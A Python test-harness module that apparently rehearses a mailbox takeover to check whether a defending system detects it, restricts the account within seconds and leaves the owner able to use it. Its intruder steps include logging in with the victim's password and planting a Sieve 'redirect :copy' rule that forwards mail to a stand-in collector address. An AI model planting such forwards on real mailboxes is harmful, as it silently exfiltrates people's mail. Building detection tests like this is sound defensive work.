"""`intruder`: somebody in a new country reads and plants a forward; the answer is an alert and a restriction.

`forward` is the same story with the whole mailbox read: two signs, so that a suspension is a right answer as well.
"""

from __future__ import annotations

import time

from sekisho.rehearsal.clients import ImapSession, SmtpSession, compose
from sekisho.rehearsal.doors import try_imap
from sekisho.rehearsal.outside import wait_until
from sekisho.rehearsal.record import mailbox_status
from sekisho.rehearsal.sieve_client import SieveSession
from sekisho.rehearsal.stage import Stage

# From the planted forward until the agent has switched it off; P2 gives a trip 5 s.
_FROZEN_WITHIN = 10.0
# In `forward` the whole mailbox is read: more letters than a telephone shows on its first screens.
_BULK_LETTERS = 50
_FIRST_SCREEN, _EVERYTHING = 10, 100_000
# Letters to be read, and letters to test the forward with after it should be stopped.
_LETTERS = 3
# A letter from the third party arrives within its first attempt, some tenths of a second.
LETTER_WITHIN = 20.0


def play_intruder(stage: Stage) -> None:
    """Plays the whole story; figures and faults end up in `stage.result`."""
    bulk = stage.result.scenario == "forward"
    write_letters(stage, "before", _BULK_LETTERS if bulk else _LETTERS)
    target = f"collector.{stage.run}@{stage.play.target}"
    started = time.monotonic()
    if not _enter_and_read(stage, _EVERYTHING if bulk else _FIRST_SCREEN):
        return
    _plant(stage, target)
    if wait_until(lambda: "filters" not in _active_scripts(stage), _FROZEN_WITHIN, pause=0.1) is None:
        stage.fault(f"the planted forward is still active after {_FROZEN_WITHIN:.0f} s")
        return
    stage.result.seconds_to_alert = time.monotonic() - started
    status = mailbox_status(stage.victim.mailbox)
    stage.result.answer = status
    if status != "restricted" and not (bulk and status == "suspended"):
        stage.fault(f"the mailbox is {status}, not restricted, after a planted forward")
        return
    word = stage.teller.status_word(status)
    stage.teller.say("alerted", seconds=stage.result.seconds_to_alert, status=word)
    if status == "suspended":
        stage.wait_for_shut_doors(_FROZEN_WITHIN)
        stage.reinstate()
    _test_forward(stage, target)
    _check_owner(stage)


def write_letters(stage: Stage, word: str, count: int) -> list[str]:
    """Letters from outside to the victim; their numbers, once all are in his inbox (or the wait is over)."""
    numbers = [f"{stage.run}-{word}-{place}" for place in range(1, count + 1)]
    for number in numbers:
        stage.outside.write(number, stage.writers[0], stage.victim.mailbox, "Invoice", "See you on Monday.\n")
    wait_until(lambda: set(numbers) <= set(stage.letters_in()), LETTER_WITHIN, pause=0.3)
    return numbers


def _enter_and_read(stage: Stage, limit: int) -> bool:
    with ImapSession(stage.places.imap, client_address=stage.play.sources[0], device="Outlook") as session:
        answer = session.login(stage.victim.mailbox, stage.password)
        if not answer.accepted:
            stage.fault(f"the intruder could not log in: {answer.text}")
            return False
        stage.teller.say("entered")
        stage.teller.say("has_read", count=session.read(limit))
    return True


def _plant(stage: Stage, target: str) -> None:
    session = SieveSession(stage.places.sieve, client_address=stage.play.sources[0])
    try:
        answers = [
            session.login(stage.victim.mailbox, stage.password),
            session.put_script("filters", f'require ["copy"];\r\nredirect :copy "{target}";\r\n'),
            session.set_active("filters"),
        ]
    finally:
        session.close()
    refused = [answer.text for answer in answers if not answer.accepted]
    if refused:
        stage.fault(f"the forward could not be planted: {refused[0]}")
    stage.teller.say("planted", target=target)


def _active_scripts(stage: Stage) -> list[str]:
    session = SieveSession(stage.places.sieve, client_address=stage.victim.home)
    try:
        session.login(stage.victim.mailbox, stage.password)
        return [name for name, active in session.scripts().items() if active]
    finally:
        session.close()


def _test_forward(stage: Stage, target: str) -> None:
    numbers = write_letters(stage, "letter", _LETTERS)
    arrived = [number for number in stage.letters_in() if number in numbers]
    leaked = [number for number in stage.outside.numbers(target) if number in numbers]
    result = stage.result
    result.letters_sent, result.letters_arrived, result.letters_leaked = len(numbers), len(arrived), len(leaked)
    result.letters_lost = len(set(numbers) - set(arrived))
    if sorted(arrived) != sorted(numbers):
        stage.fault(f"{len(arrived)} of {len(numbers)} letters are in the owner's mailbox")
    key = "redirect_runs" if leaked else "redirect_frozen"
    stage.teller.say(key, sent=len(numbers), leaked=len(leaked))
    if leaked:
        result.faults.append(f"{len(leaked)} letters leaked after the restriction")


def _check_owner(stage: Stage) -> None:
    """The owner at home logs in, and writes to somebody who had written to him."""
    login = try_imap(stage.places, stage.victim.mailbox, stage.password, stage.victim.home)
    if not login.accepted:
        stage.teller.say("owner_hindered", answer=login.text)
        stage.result.faults.append("the owner cannot log in")
        return
    number = f"{stage.run}-reply"
    writer = stage.writers[0]
    with SmtpSession(stage.places.submission, client_address=stage.victim.home) as session:
        session.login(stage.victim.mailbox, stage.password)
        message = compose(number, stage.victim.mailbox, writer, "Re: Invoice", "Thank you.\n")
        sending = session.send(stage.victim.mailbox, [writer], message)
    if sending.refusal:
        stage.teller.say("owner_hindered", answer=f"{sending.refusal.code} {sending.refusal.text}")
        stage.result.faults.append("the owner cannot send")
        return
    if wait_until(lambda: number in stage.outside.numbers(writer), LETTER_WITHIN, pause=0.5) is None:
        stage.fault("the owner's answer did not arrive outside")
    stage.teller.say("owner_unhindered", home=stage.victim.home)
